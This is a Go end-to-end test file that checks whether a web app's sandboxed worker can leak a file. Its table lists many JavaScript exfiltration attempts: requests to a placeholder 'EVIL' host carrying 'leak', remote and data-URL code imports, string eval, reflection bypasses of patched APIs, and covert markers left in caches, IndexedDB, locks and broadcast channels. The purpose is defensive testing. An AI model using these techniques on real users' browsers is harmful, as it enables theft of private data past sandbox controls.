package e2e

import (
	"strings"
	"testing"

	"privatepca/app/e2e/drive"
)

// Scripts that several ways share.
const (
	cacheLook = `return (await caches.keys()).includes('TOKEN')`
	baseLook  = `return (await indexedDB.databases()).some(d => d.name === 'TOKEN')`
	fileLook  = `await (await navigator.storage.getDirectory()).getFileHandle('TOKEN'); return true`
	lockLook  = `return (await navigator.locks.query()).held.some(l => l.name === 'TOKEN')`
	openBase  = `(await new Promise((ok, no) => { const r = OPEN; r.onsuccess = () => ok(r.result); r.onerror = no; })).close()`
	// A worker whose script asks for EVIL.
	asksEvil = `"fetch('EVIL', { mode: 'no-cors' })"`
)

// Why an engine has no such way.
const (
	noBuckets  = "Chromium alone has storage buckets"
	noOldFiles = "Chromium alone has the old file system"
	noPrivate  = "WebKitGTK gives a worker no navigator.storage"
	noFont     = "its workers ask for no font of another origin"
)

func inOthers(why string) map[drive.Engine]string {
	return map[drive.Engine]string{drive.Firefox: why, drive.WebKit: why}
}

// waysOutOfWorker are tried in a worker that has been handed a file.
var waysOutOfWorker = []wayOut{
	// What connects.
	{name: "fetch", script: `await fetch('EVIL')`},
	{name: "fetch without CORS", script: `await fetch('EVIL', { mode: 'no-cors' })`},
	{name: "fetch of a POST", script: `await fetch('EVIL', { method: 'POST', mode: 'no-cors', body: 'leak' })`},
	{name: "fetch that outlives the worker", script: `await fetch('EVIL', { mode: 'no-cors', keepalive: true })`},
	{name: "fetch of a Request", script: `await fetch(new Request('EVIL', { mode: 'no-cors' }))`},
	{name: "fetch of its own origin", script: `await fetch('OWN')`},
	{name: "fetch of its own origin, POST", script: `await fetch('OWN', { method: 'POST', body: 'leak' })`},
	{name: "fetch of its own script", script: `await fetch('SITE/web/worker.js?TOKEN')`},
	{name: "fetch of a prototype", script: `await WorkerGlobalScope.prototype.fetch.call(self, 'EVIL', { mode: 'no-cors' })`},
	{name: "fetch of the constructor's prototype", script: `await Object.getPrototypeOf(self.constructor.prototype).fetch.call(self, 'EVIL', { mode: 'no-cors' })`},
	{name: "fetch by its descriptor", script: `for (let o = self; o; o = Reflect.getPrototypeOf(o)) { const d = Reflect.getOwnPropertyDescriptor(o, 'fetch'); if (d) await d.value.call(self, 'EVIL', { mode: 'no-cors' }); }`},
	{name: "XMLHttpRequest", script: `const x = new XMLHttpRequest(); x.open('GET', 'EVIL'); x.send(); await new Promise(r => { x.onloadend = r; })`},
	{name: "XMLHttpRequest of its own origin", script: `const x = new XMLHttpRequest(); x.open('GET', 'OWN'); x.send(); await new Promise(r => { x.onloadend = r; })`},
	{alone: true, name: "synchronous request", script: `const x = new XMLHttpRequest(); x.open('POST', 'EVIL', false); x.send('leak')`},
	{alone: true, name: "synchronous request of its own origin", script: `const x = new XMLHttpRequest(); x.open('POST', 'OWN', false); x.send('leak')`},
	{name: "XMLHttpRequest by Reflect", script: `const x = Reflect.construct(self['XMLHttp' + 'Request'], []); x.open('GET', 'EVIL'); x.send(); await new Promise(r => { x.onloadend = r; })`},
	{name: "WebSocket", script: `new WebSocket('ws://HOST/'); await new Promise(r => setTimeout(r, 800))`},
	{name: "WebSocket of its own origin", script: `new WebSocket('OWN'.replace('http', 'ws')); await new Promise(r => setTimeout(r, 800))`, bare: "a proxy is told no address of it", lacks: map[drive.Engine]string{drive.Firefox: "a proxy is told no address of it"}},
	{name: "WebSocketStream", script: `await new WebSocketStream('ws://HOST/').opened`, lacks: inOthers("Chromium alone has the interface")},
	{name: "EventSource", script: `new EventSource('EVIL'); await new Promise(r => setTimeout(r, 800))`},
	{name: "EventSource of its own origin", script: `new EventSource('OWN'); await new Promise(r => setTimeout(r, 800))`},
	{name: "WebTransport", script: `await new WebTransport('https://127.0.0.1:UDP/').ready`, bare: "the tests' browser runs without QUIC", lacks: map[drive.Engine]string{drive.Firefox: "the tests' browser, which has a proxy, rejects it", drive.WebKit: "it has no such interface"}},
	{alone: true, name: "script of elsewhere", script: `importScripts('EVIL.js')`},
	{alone: true, name: "script of its own origin", script: `importScripts('OWN.js')`},
	{alone: true, name: "script of a data address", script: `importScripts("data:text/javascript,fetch('EVIL',{mode:'no-cors'})"); await new Promise(r => setTimeout(r, 300))`},
	{name: "module of elsewhere", script: `await import('EVIL.js')`},
	{name: "module of its own origin", script: `await import('OWN.js')`},
	{name: "module of a data address", script: `await import("data:text/javascript,export default await fetch('EVIL',{mode:'no-cors'})")`},
	{name: "module out of memory", script: `await import(URL.createObjectURL(new Blob(["export default await fetch('EVIL',{mode:'no-cors'})"], { type: 'text/javascript' })))`},
	{name: "worker of its own origin", script: `new Worker('OWN.js'); await new Promise(r => setTimeout(r, 500))`},
	{name: "worker of its own script", script: `new Worker('SITE/web/worker.js?TOKEN'); await new Promise(r => setTimeout(r, 500))`},
	{name: "worker out of memory", script: `new Worker(URL.createObjectURL(new Blob([` + asksEvil + `]))); await new Promise(r => setTimeout(r, 800))`},
	{name: "worker of a data address", script: `new Worker("data:text/javascript,fetch('EVIL',{mode:'no-cors'})"); await new Promise(r => setTimeout(r, 800))`},
	{name: "worker that is a module", script: `new Worker(URL.createObjectURL(new Blob([` + asksEvil + `], { type: 'text/javascript' })), { type: 'module' }); await new Promise(r => setTimeout(r, 800))`},
	{name: "font", script: `await new FontFace('x', 'url(EVIL)').load()`, lacks: map[drive.Engine]string{drive.WebKit: noFont}},
	{name: "font of its own origin", script: `await new FontFace('x', 'url(OWN)').load()`, pastPolicy: map[drive.Engine]string{drive.WebKit: "it asks no policy about a font of a worker"}},
	{name: "font that is asked for by a set", script: `fonts.add(new FontFace('y', 'url(EVIL)')); await fonts.load('12px y')`, lacks: map[drive.Engine]string{drive.WebKit: noFont}},
	{name: "program that compiles as it comes", script: `await WebAssembly.compileStreaming(fetch('EVIL'))`},
	{name: "image", script: `await createImageBitmap(await (await fetch('EVIL', { mode: 'no-cors' })).blob())`},
	{name: "text that is run after a time", script: `setTimeout("fetch('EVIL', { mode: 'no-cors' })"); await new Promise(r => setTimeout(r, 500))`},
	{name: "text that a function is made of", script: `await new Function("return fetch('EVIL', { mode: 'no-cors' })")()`},
	{name: "text that an asynchronous function is made of", script: `await (async () => {}).constructor("await fetch('EVIL', { mode: 'no-cors' })")()`},
	{name: "cache that fetches", script: `await (await caches.open('x')).add('EVIL')`},
	{name: "cache that fetches of its own origin", script: `await (await caches.open('x')).add('OWN')`},

	// What stores, for a later script.
	{name: "cache", script: `await (await caches.open('TOKEN')).put('/TOKEN', new Response('leak'))`, look: cacheLook},
	{name: "cache of a prototype's getter", script: `const get = Reflect.getOwnPropertyDescriptor(WorkerGlobalScope.prototype, 'caches').get; await get.call(self).open('TOKEN')`, look: cacheLook},
	{name: "cache of an interface's method", script: `await CacheStorage.prototype.open.call(caches, 'TOKEN')`, look: cacheLook},
	{name: "cache of every scope", script: `for (let o = self; o; o = Reflect.getPrototypeOf(o)) { const d = Reflect.getOwnPropertyDescriptor(o, 'caches'); if (d) await (d.value ?? d.get.call(self)).open('TOKEN'); }`, look: cacheLook},
	{name: "cache of a bucket", script: `const b = await navigator.storageBuckets.open('TOKEN'.toLowerCase()); await (await b.caches.open('leak')).put('/leak', new Response('leak'))`, look: `return (await navigator.storageBuckets.keys()).includes('TOKEN'.toLowerCase())`, lacks: inOthers(noBuckets)},
	{name: "file of a bucket", script: `const b = await navigator.storageBuckets.open('TOKEN'.toLowerCase()); await (await b.getDirectory()).getFileHandle('leak', { create: true })`, look: `return (await navigator.storageBuckets.keys()).includes('TOKEN'.toLowerCase())`, lacks: inOthers(noBuckets)},
	{name: "database of a bucket", script: `const b = await navigator.storageBuckets.open('TOKEN'.toLowerCase()); b.indexedDB.open('leak')`, look: `return (await navigator.storageBuckets.keys()).includes('TOKEN'.toLowerCase())`, lacks: inOthers(noBuckets)},
	{name: "bucket of a prototype", script: `const get = Reflect.getOwnPropertyDescriptor(Reflect.getPrototypeOf(navigator), 'storageBuckets').get; await get.call(navigator).open('TOKEN'.toLowerCase())`, look: `return (await navigator.storageBuckets.keys()).includes('TOKEN'.toLowerCase())`, lacks: inOthers(noBuckets)},
	{name: "private file", script: `const f = await (await navigator.storage.getDirectory()).getFileHandle('TOKEN', { create: true }); const a = await f.createSyncAccessHandle(); a.write(new Uint8Array(9)); a.close()`, look: fileLook, lacks: map[drive.Engine]string{drive.WebKit: noPrivate}},
	{name: "private file, written as a stream", script: `const f = await (await navigator.storage.getDirectory()).getFileHandle('TOKEN', { create: true }); const w = await f.createWritable(); await w.write('leak'); await w.close()`, look: fileLook, lacks: map[drive.Engine]string{drive.WebKit: noPrivate}},
	{name: "private file of an interface's method", script: `await (await StorageManager.prototype.getDirectory.call(navigator.storage)).getFileHandle('TOKEN', { create: true })`, look: fileLook, lacks: map[drive.Engine]string{drive.WebKit: noPrivate}},
	{name: "private file of a prototype's getter", script: `const s = Reflect.getOwnPropertyDescriptor(WorkerNavigator.prototype, 'storage').get.call(navigator); await (await s.getDirectory()).getFileHandle('TOKEN', { create: true })`, look: fileLook, lacks: map[drive.Engine]string{drive.WebKit: noPrivate}},
	{
		name: "old file system", script: `await new Promise((ok, no) => webkitRequestFileSystem(0, 9, fs => fs.root.getFile('TOKEN', { create: true }, ok, no), no))`,
		look:  `await new Promise((ok, no) => webkitRequestFileSystem(0, 9, fs => fs.root.getFile('TOKEN', {}, ok, no), no)); return true`,
		lacks: inOthers(noOldFiles),
	},
	{
		alone: true, name: "old file system, at once", script: `webkitRequestFileSystemSync(0, 9).root.getFile('TOKEN', { create: true })`,
		look:  `await new Promise((ok, no) => webkitRequestFileSystem(0, 9, fs => fs.root.getFile('TOKEN', {}, ok, no), no)); return true`,
		lacks: inOthers(noOldFiles),
	},
	{name: "database", script: replaced(openBase, `indexedDB.open('TOKEN')`), look: baseLook},
	{name: "database of the interface's method", script: replaced(openBase, `IDBFactory.prototype.open.call(indexedDB, 'TOKEN')`), look: baseLook},
	{name: "database of the object's prototype", script: replaced(openBase, `Reflect.getPrototypeOf(indexedDB).open.call(indexedDB, 'TOKEN')`), look: baseLook},
	{name: "database of the constructor", script: replaced(openBase, `indexedDB.constructor.prototype.open.call(indexedDB, 'TOKEN', 1)`), look: baseLook},
	{name: "database of a prototype's getter", script: replaced(openBase, `Reflect.getOwnPropertyDescriptor(WorkerGlobalScope.prototype, 'indexedDB').get.call(self).open('TOKEN')`), look: baseLook},
	{name: "database whose name changes", script: `let n = 0; ` + replaced(openBase, `indexedDB.open({ toString: () => n++ ? 'TOKEN' : 'privatepca-ledger' }, 1)`) + `; ` + replaced(openBase, `indexedDB.open({ toString: () => 'TOKEN' }, 1)`), look: baseLook},
	{name: "database by a wrapped apply", script: `const { apply } = Reflect, { call } = Function.prototype; try { Reflect.apply = (f, t) => apply(f, t, ['TOKEN']); Function.prototype.call = function () { return apply(this, indexedDB, ['TOKEN']); }; const r = indexedDB.open('privatepca-ledger', 1); r.onsuccess = () => r.result.close(); } finally { Reflect.apply = apply; Function.prototype.call = call; } ` + replaced(openBase, `indexedDB.open('TOKEN')`), look: baseLook},
	{name: "ledger of a later version", script: replaced(openBase, `indexedDB.open('privatepca-ledger', 77)`), look: `return (await indexedDB.databases()).some(d => d.version >= 77)`},
	{
		name: "another store in the ledger", script: `await new Promise((ok, no) => { const r = indexedDB.open('privatepca-ledger', 78); r.onupgradeneeded = () => r.result.createObjectStore('TOKEN'); r.onsuccess = () => { r.result.close(); ok(); }; r.onerror = no; })`,
		look: `return (await indexedDB.databases()).some(d => d.version >= 78)`,
	},
	{
		name: "a file in the ledger", script: `const db = await new Promise((ok, no) => { const r = indexedDB.open('privatepca-ledger', 1); r.onupgradeneeded = () => r.result.createObjectStore('meta'); r.onsuccess = () => ok(r.result); r.onerror = no; });
		const t = db.transaction('meta', 'readwrite'); t.objectStore('meta').put(new Blob(['leak']), 'TOKEN'); await new Promise((ok, no) => { t.oncomplete = ok; t.onerror = t.onabort = no; }); db.close()`,
		look: `const db = await new Promise((ok, no) => { const r = indexedDB.open('privatepca-ledger'); r.onsuccess = () => ok(r.result); r.onerror = no; });
		try { return await new Promise((ok, no) => { const r = db.transaction('meta').objectStore('meta').getKey('TOKEN'); r.onsuccess = () => ok(!!r.result); r.onerror = no; }); } finally { db.close(); }`,
		bare:  "another way may have given the ledger a later version",
		lacks: inOthers("another way may have given the ledger a later version"),
	},

	// What others of this origin hear.
	{name: "broadcast", script: `new BroadcastChannel('TOKEN').postMessage('leak'); await new Promise(r => setTimeout(r, 300))`, look: `return (window.heard ?? []).includes('TOKEN')`, bare: "nobody listens to that name", lacks: inOthers("nobody listens to that name")},
	{name: "lock", script: `navigator.locks.request('TOKEN', () => new Promise(() => {})); await new Promise(r => setTimeout(r, 200))`, look: lockLook},
	{name: "lock of an interface's method", script: `LockManager.prototype.request.call(navigator.locks, 'TOKEN', () => new Promise(() => {})); await new Promise(r => setTimeout(r, 200))`, look: lockLook},
	{name: "lock of the object's prototype", script: `Reflect.getPrototypeOf(navigator.locks).request.call(navigator.locks, 'TOKEN', () => new Promise(() => {})); await new Promise(r => setTimeout(r, 200))`, look: lockLook},
	{name: "lock by a wrapped apply", script: `const { apply } = Reflect; Reflect.apply = (f, t, a) => apply(f, t, ['TOKEN', a.at(-1)]); try { navigator.locks.request('privatepca-ledger-x', () => new Promise(() => {})).catch(() => {}); navigator.locks.request('TOKEN', () => new Promise(() => {})).catch(() => {}); } finally { Reflect.apply = apply; } await new Promise(r => setTimeout(r, 200))`, look: lockLook},
}

func replaced(text, open string) string { return strings.ReplaceAll(text, "OPEN", open) }

// Of each way out of a worker a script without rules succeeds, and one in ours does not,
// wherever the pages stand.
func TestNoWayOutOfTheWorker(t *testing.T) {
	t.Parallel()
	onlyChromium(t, "its driver alone reaches into a worker: TestWorkerIsSealedInAnyEngine runs the list elsewhere")
	tryEverywhere(t, waysOutOfWorker, true)
}
